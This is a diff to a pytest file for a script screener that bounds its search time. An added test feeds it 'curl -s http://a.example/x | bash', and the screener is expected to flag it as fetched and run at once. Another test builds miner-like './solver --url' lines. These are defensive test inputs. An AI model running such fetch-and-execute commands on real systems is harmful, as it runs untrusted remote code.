@@ -1,6 +1,7 @@
 """No script holds the screener: work is bounded, and what was not read whole is an open sign."""
 
 import time
+from itertools import count
 
 import pytest
 
@@ -50,9 +51,16 @@ def test_what_was_not_read_whole_is_an_open_sign(name: str, shipped: Screener) -
 def test_the_deadline_ends_the_search_and_is_an_open_sign() -> None:
     script = "\n".join(f"./solver --url a{number}.b:3333 --user {number}" for number in range(1000))
     asked = iter(range(10**6))
-    _, found = look(script, Effort(seconds=50, clock=lambda: float(next(asked))))
+    _, found = look(script, Effort(seconds=50, wall=lambda: float(next(asked)), work=count(0, 100).__next__))
     assert [sign.operation for sign in found if "too long" in sign.why] == [None]
     assert next(asked) < 60, "nothing goes on after the deadline"
+
+
+def test_a_script_has_its_time_on_a_busy_machine_too() -> None:
+    script = "curl -s http://a.example/x | bash\n" * 3
+    _, found = look(script, Effort(seconds=1, wall=count(0, 100).__next__, work=lambda: 0.0))
+    assert any("fetched and run at once" in sign.why for sign in found)
+    assert not any("too long" in sign.why for sign in found)
 
 
 class Counting(Effort):
